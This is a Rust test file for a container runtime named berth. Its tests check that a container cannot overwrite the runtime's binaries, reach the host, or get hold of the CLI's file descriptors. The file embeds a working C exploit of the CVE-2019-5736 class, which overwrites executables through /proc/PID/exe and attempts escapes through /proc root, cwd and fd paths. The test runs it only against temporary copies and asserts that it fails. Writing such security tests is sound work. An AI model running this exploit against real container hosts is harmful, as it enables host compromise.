//! A container attacking berth's own processes (issue 15 items 1 and 8).
//!
//! Item 1 (the CVE-2019-5736 class): every berth process that becomes visible in a container
//! runs berth code until its exec, so the container can open `/proc/PID/exe`, wait until the
//! binary is no longer busy and reopen it for writing. The attacker here is a small static C
//! program inside the container that does exactly that, for every process it can see, while
//! the test drives `exec`s, a frequent healthcheck and `init: true`; it also tries to reach the
//! host through the `root`, `cwd` and directory fds of those processes (with CAP_SYS_PTRACE).
//! berth and berth-monitor run from a temporary copy, so the real build is never at risk.
//!
//! Item 8: `exec` gives the container pipes, never the CLI's own descriptors.

use std::io::Write;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use crate::support::{ContainerEnv, berth_bin};

/// The attacker: `attacker LOG MARKER STOPFILE`. Logs one line per event (unbuffered):
/// `seen pid= dev= ino= ro=` for each new process running another program than its own or
/// busybox (ro: its executable is on a read-only mount), `fd pid= n= -> TARGET` for that
/// process's descriptors, `write dev= ino= errno=` whenever the result of reopening one of the
/// executables it holds for writing changes (`WROTE` if it wrote), and `ESCAPE ...` if it read
/// the host file MARKER through such a process's root, cwd or a directory fd.
const ATTACKER_C: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <unistd.h>

static int logfd;
static void say(const char *fmt, ...) {
    char b[1024];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(b, sizeof b, fmt, ap);
    va_end(ap);
    if (n > 0) write(logfd, b, n < (int)sizeof b ? n : (int)sizeof b - 1);
}

struct held { int fd; dev_t dev; ino_t ino; int last; };
static struct held held[256];
static int nheld;
static const char *marker;

static int same(const struct stat *a, const struct stat *b) {
    return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

static void try_marker(const char *path, const char *via, int pid) {
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return;
    char b[128] = {0};
    read(fd, b, sizeof b - 1);
    close(fd);
    say("ESCAPE via=%s pid=%d content=%s\n", via, pid, b);
}

static void escapes(int pid) {
    char p[512];
    snprintf(p, sizeof p, "/proc/%d/root%s", pid, marker);
    try_marker(p, "root", pid);
    snprintf(p, sizeof p, "/proc/%d/cwd/../../../../../../../../../../../..%s", pid, marker);
    try_marker(p, "cwd", pid);
    snprintf(p, sizeof p, "/proc/%d/fd", pid);
    DIR *d = opendir(p);
    if (!d) return;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.') continue;
        char q[512], t[512];
        snprintf(q, sizeof q, "/proc/%d/fd/%s", pid, e->d_name);
        ssize_t n = readlink(q, t, sizeof t - 1);
        if (n < 0) continue;
        t[n] = 0;
        say("fd pid=%d n=%s -> %s\n", pid, e->d_name, t);
        int dfd = open(q, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (dfd < 0) continue;
        snprintf(p, sizeof p, "../../../../../../../../../../../..%s", marker);
        int m = openat(dfd, p, O_RDONLY | O_CLOEXEC);
        if (m >= 0) { say("ESCAPE via=fd pid=%d n=%s\n", pid, e->d_name); close(m); }
        close(dfd);
    }
    closedir(d);
}

int main(int argc, char **argv) {
    if (argc < 4) return 2;
    logfd = open(argv[1], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    marker = argv[2];
    struct stat self_st, bb_st;
    stat("/proc/self/exe", &self_st);
    stat("/bin/busybox", &bb_st);
    pid_t me = getpid();
    static unsigned char seen[1 << 22];
    say("start pid=%d\n", me);
    for (unsigned long iter = 0;; iter++) {
        if (iter % 64 == 0 && access(argv[3], F_OK) == 0) break;
        DIR *d = opendir("/proc");
        if (!d) return 3;
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == me || pid >= (1 << 22) || seen[pid]) continue;
            char p[64];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            /* Not marked seen when refused: it may become accessible later. */
            int fd = open(p, O_RDONLY | O_CLOEXEC);
            if (fd < 0) continue;
            seen[pid] = 1;
            struct stat st;
            if (fstat(fd, &st) != 0 || same(&st, &self_st) || same(&st, &bb_st)) {
                close(fd);
                continue;
            }
            struct statvfs v;
            int ro = fstatvfs(fd, &v) == 0 && (v.f_flag & ST_RDONLY);
            say("seen pid=%d dev=%lu ino=%lu ro=%d\n", pid, (unsigned long)st.st_dev,
                (unsigned long)st.st_ino, ro);
            escapes(pid);
            int known = 0;
            for (int i = 0; i < nheld && !known; i++)
                known = held[i].dev == st.st_dev && held[i].ino == st.st_ino;
            if (known || nheld == 256) { close(fd); continue; }
            held[nheld++] = (struct held){ fd, st.st_dev, st.st_ino, -1 };
        }
        closedir(d);
        for (int i = 0; i < nheld; i++) {
            char p[64];
            snprintf(p, sizeof p, "/proc/self/fd/%d", held[i].fd);
            int r, w = open(p, O_WRONLY | O_CLOEXEC);
            if (w >= 0) {
                r = pwrite(w, "PWNED", 5, 0) == 5 ? 0 : errno;
                close(w);
            } else {
                r = errno;
            }
            if (r != held[i].last) {
                held[i].last = r;
                say("write dev=%lu ino=%lu errno=%d %s\n", (unsigned long)held[i].dev,
                    (unsigned long)held[i].ino, r, r ? strerror(r) : "WROTE");
            }
        }
    }
    say("stop\n");
    return 0;
}
"#;

/// The C compiler, if this machine has one.
fn cc() -> Option<PathBuf> {
    let path = std::env::var_os("PATH")?;
    std::env::split_paths(&path).map(|d| d.join("cc")).find(|p| p.is_file())
}

/// berth and berth-monitor copied side by side into a temporary directory (berth finds the
/// monitor beside itself), so an attack that succeeded would only damage the copies.
struct Copies {
    dir: berth_testsupport::TempRoot,
    root: PathBuf,
}

impl Copies {
    fn new(env: &ContainerEnv) -> Copies {
        let dir = berth_testsupport::TempRoot::new().expect("temp dir");
        let real = Path::new(berth_bin());
        for name in ["berth", "berth-monitor"] {
            std::fs::copy(real.with_file_name(name), dir.path().join(name)).expect("copy");
        }
        Copies { dir, root: env.path() }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    /// (st_dev, st_ino) of a copy: what the attacker sees through /proc/PID/exe.
    fn id(&self, name: &str) -> (u64, u64) {
        let m = std::fs::metadata(self.path(name)).expect("copy");
        (m.dev(), m.ino())
    }

    /// Runs the copy of berth (ETXTBSY: something holds it open for writing).
    fn run(&self, args: &[&str]) -> std::io::Result<Output> {
        Command::new(self.path("berth"))
            .arg("--root")
            .arg(&self.root)
            .args(args)
            .stdin(Stdio::null())
            .output()
    }

    fn ok(&self, args: &[&str]) -> String {
        let out = self.run(args).expect("spawn the berth copy");
        assert!(
            out.status.success(),
            "berth {args:?}: {}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    /// Asserts both copies still equal the build's binaries byte for byte.
    fn assert_intact(&self) {
        let real = Path::new(berth_bin());
        for name in ["berth", "berth-monitor"] {
            let a = std::fs::read(self.path(name)).expect("read copy");
            let b = std::fs::read(real.with_file_name(name)).expect("read build");
            assert!(a == b, "{name} was modified from inside the container");
        }
    }
}

/// One attack: the attacker in a container (no network, so no `berth __dns` keeps the
/// binary busy) with `extra` run flags, while the test runs `exec`s until the attacker has
/// seen both binaries (and the CLI's no longer busy), then checks it got nowhere.
fn attack(extra: &[&str]) {
    let Some(env) = ContainerEnv::new() else { return };
    let Some(cc) = cc() else {
        eprintln!("skipping: no C compiler to build the attacker");
        return;
    };
    let copies = Copies::new(&env);
    let work = berth_testsupport::TempRoot::new().expect("temp dir");
    let out = work.path().join("out");
    std::fs::create_dir_all(&out).expect("out dir");
    // A host file the container must never read (outside everything it mounts).
    let secret = work.path().join("secret");
    std::fs::create_dir_all(&secret).expect("secret dir");
    let marker = secret.join("marker");
    std::fs::write(&marker, "host-secret").expect("marker");
    std::fs::write(work.path().join("attacker.c"), ATTACKER_C).expect("source");
    let built = Command::new(cc)
        .args(["-static", "-O2", "-o"])
        .arg(out.join("attacker"))
        .arg(work.path().join("attacker.c"))
        .output()
        .expect("run cc");
    assert!(built.status.success(), "cc: {}", String::from_utf8_lossy(&built.stderr));

    let vol = format!("{}:/out", out.display());
    let mut args = vec!["container", "run", "-d", "--name", "atk", "--network", "none"];
    args.extend(["--health-cmd", "true", "--health-interval", "50ms", "-v", &vol]);
    args.extend(extra);
    let m = marker.to_string_lossy().to_string();
    args.extend(["bb", "/out/attacker", "/out/log", &m, "/out/stop"]);
    copies.ok(&args);
    let log_path = out.join("log");
    let log = || std::fs::read_to_string(&log_path).unwrap_or_default();
    env.wait_for("the attacker to start", 10, || log().contains("start pid="));

    let (berth, monitor) = (copies.id("berth"), copies.id("berth-monitor"));
    let opened = |l: &str, (dev, ino): (u64, u64)| {
        l.lines().any(|x| x.starts_with("seen ") && x.contains(&format!(" dev={dev} ino={ino} ")))
    };
    // EROFS (30): the attacker held the CLI's executable while no berth ran it, and still
    // could not reopen it for writing.
    let cli_refused =
        |l: &str| l.contains(&format!("write dev={} ino={} errno=30 ", berth.0, berth.1));
    let deadline = Instant::now() + Duration::from_secs(180);
    let mut execs = 0;
    loop {
        let l = log();
        if cli_refused(&l) && opened(&l, monitor) {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the attacker never saw both berth binaries after {execs} execs:\n{l}"
        );
        let o = copies.run(&["container", "exec", "atk", "true"]);
        let o = o.unwrap_or_else(|e| panic!("exec {execs}: {e}; attacker's log:\n{}", log()));
        assert!(o.status.success(), "exec: {}", String::from_utf8_lossy(&o.stderr));
        execs += 1;
        // Give the attacker a moment with the CLI's binary not busy.
        std::thread::sleep(Duration::from_millis(20));
    }
    std::fs::write(out.join("stop"), "").expect("stop file");
    env.wait_for("the attacker to stop", 20, || log().contains("\nstop\n"));
    copies.ok(&["container", "rm", "--force", "atk"]);

    let l = log();
    assert!(!l.contains("ESCAPE"), "the container reached the host:\n{l}");
    assert!(!l.contains("WROTE"), "the container wrote to a berth binary:\n{l}");
    copies.assert_intact();
    let mut berth_pids = Vec::new();
    for line in l.lines().filter(|x| x.starts_with("seen ")) {
        let of = |(dev, ino): (u64, u64)| line.contains(&format!(" dev={dev} ino={ino} "));
        if of(berth) || of(monitor) {
            assert!(line.ends_with(" ro=1"), "a berth binary was writable: {line}\n{l}");
            berth_pids.push(line.split_whitespace().nth(1).unwrap_or_default().to_string());
        }
    }
    // The berth processes it saw held nothing of the host: only pipes, a terminal or /dev/null.
    for line in l.lines().filter(|x| x.starts_with("fd ")) {
        let pid = line.split_whitespace().nth(1).unwrap_or_default();
        let target = line.split(" -> ").nth(1).unwrap_or_default();
        if berth_pids.iter().any(|p| p == pid) {
            let fine = target.starts_with("pipe:")
                || target == "/dev/null"
                || target.starts_with("/dev/pts/");
            assert!(fine, "a berth process in the container held {target}:\n{l}");
        }
    }
}

#[test]
fn container_cannot_overwrite_berth_binaries() {
    attack(&[]);
}

#[test]
fn container_with_sys_ptrace_and_init_cannot_overwrite_berth_or_reach_the_host() {
    attack(&["--cap-add", "SYS_PTRACE", "--init"]);
}

/// `exec` gives the process pipes, never the CLI's own files: a host file opened for append
/// as stdout receives the output, but the process can neither read nor truncate it through
/// /proc/self/fd; stdin from a host file arrives through a pipe and ends with EOF. The same
/// for `compose exec`.
#[test]
fn exec_gets_pipes_not_the_callers_files() {
    let Some(env) = ContainerEnv::new() else { return };
    let long = "trap 'exit 0' TERM; sleep 3600 & wait";
    env.ok(&["container", "run", "-d", "--name", "ex", "bb", "sh", "-c", long]);
    let dir = berth_testsupport::TempRoot::new().expect("temp dir");
    let (input, output) = (dir.path().join("in"), dir.path().join("out"));
    std::fs::write(&input, "typed on the host\n").expect("input");
    let script = "for f in 0 1 2; do readlink /proc/self/fd/$f; done; \
        cat; : > /proc/self/fd/1; echo to-stderr >&2; \
        echo last; exit 5";
    let exec = |cmd: &mut Command| {
        std::fs::write(&output, "kept\n").expect("output");
        let out = std::fs::OpenOptions::new().append(true).open(&output).expect("append");
        let st = cmd
            .stdin(std::fs::File::open(&input).expect("input"))
            .stdout(out)
            .stderr(Stdio::piped())
            .output()
            .expect("spawn berth");
        assert_eq!(st.status.code(), Some(5), "{}", String::from_utf8_lossy(&st.stderr));
        assert_eq!(String::from_utf8_lossy(&st.stderr), "to-stderr\n");
        let text = std::fs::read_to_string(&output).expect("output");
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 6, "{text}");
        assert_eq!(lines[0], "kept", "the host file was truncated:\n{text}");
        for l in &lines[1..4] {
            assert!(l.starts_with("pipe:["), "not a pipe: {text}");
        }
        assert_eq!(lines[4..], ["typed on the host", "last"], "{text}");
    };
    let mut c = Command::new(berth_bin());
    c.arg("--root").arg(env.path()).args(["container", "exec", "-i", "ex", "sh", "-c", script]);
    exec(&mut c);

    // Without -i the process's stdin is empty (docker); detached, /dev/null everywhere.
    let so = env.ok(&["container", "exec", "ex", "sh", "-c", "readlink /proc/self/fd/0; cat"]);
    assert_eq!(so, "/dev/null\n");
    // (busybox runs readlink inside the shell, so the shell's own fds are read before `>`.)
    let d = "a=$(readlink /proc/$$/fd/0); b=$(readlink /proc/$$/fd/1); \
        c=$(readlink /proc/$$/fd/2); echo \"$a $b $c\" > /tmp/fds";
    env.ok(&["container", "exec", "-d", "ex", "sh", "-c", d]);
    env.wait_for("the detached exec", 10, || {
        env.run(&["container", "exec", "ex", "cat", "/tmp/fds"]).stdout
            == b"/dev/null /dev/null /dev/null\n"
    });

    // compose exec: the same relay.
    let p = crate::compose_support::Project::new(
        "sealexec",
        &format!("services:\n  s:\n    image: bb\n    command: {}\n", crate::compose_support::LONG),
    );
    let Some(p) = p else { return };
    p.ok(&["up", "-d"]);
    let mut c = Command::new(berth_bin());
    c.current_dir(p.path())
        .arg("--root")
        .arg(p.env.path())
        .args(["-p", &p.name, "exec", "-T", "s", "sh", "-c", script]);
    exec(&mut c);
    let mut w = std::process::Command::new(berth_bin());
    let mut child = w
        .current_dir(p.path())
        .arg("--root")
        .arg(p.env.path())
        .args(["-p", &p.name, "exec", "-T", "s", "sh", "-c", "wc -c"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("spawn");
    // More than a pipe holds, so the relay has to feed it in pieces; EOF ends `wc`.
    let mut stdin = child.stdin.take().expect("stdin");
    stdin.write_all(&vec![b'x'; 1 << 20]).expect("feed");
    drop(stdin);
    let out = child.wait_with_output().expect("wait");
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "1048576");
}
